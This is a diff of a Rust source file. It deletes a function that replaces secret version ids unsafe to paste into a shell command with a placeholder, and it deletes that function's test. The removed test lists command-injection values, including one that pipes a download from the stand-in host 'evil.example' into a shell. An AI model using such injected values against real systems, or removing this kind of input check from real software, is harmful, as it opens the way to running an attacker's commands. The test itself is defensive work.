@@ -20,13 +20,6 @@ impl InvalidEvent {
     }
 }
 
-/// A version id that is safe to paste into a command. A principal that can write a secret chooses its version ids, so
-/// an id could contain shell code; such an id becomes a placeholder.
-pub fn pasted(version: &str) -> &str {
-    let is_plain = version.chars().all(|c| c.is_ascii_alphanumeric() || c == '-');
-    if is_plain { version } else { "VERSION_ID" }
-}
-
 /// Parses an event, or a part of one.
 ///
 /// # Errors
@@ -42,15 +35,6 @@ pub use policy::is_line;
 #[cfg(test)]
 mod tests {
     use super::*;
-
-    #[test]
-    fn an_id_that_could_be_a_command_is_not_pasted() {
-        let id = "4f1c2a7e-8d4b-4c55-9b0e-2f6f3a9d7c10";
-        assert_eq!(pasted(id), id);
-        for id in ["x;curl evil.example|sh;#aaaaaaaaaaaa", "x`y", "x'y", "x y", "$(x)"] {
-            assert_eq!(pasted(id), "VERSION_ID");
-        }
-    }
 
     #[test]
     fn a_line_says_something_and_ends() {
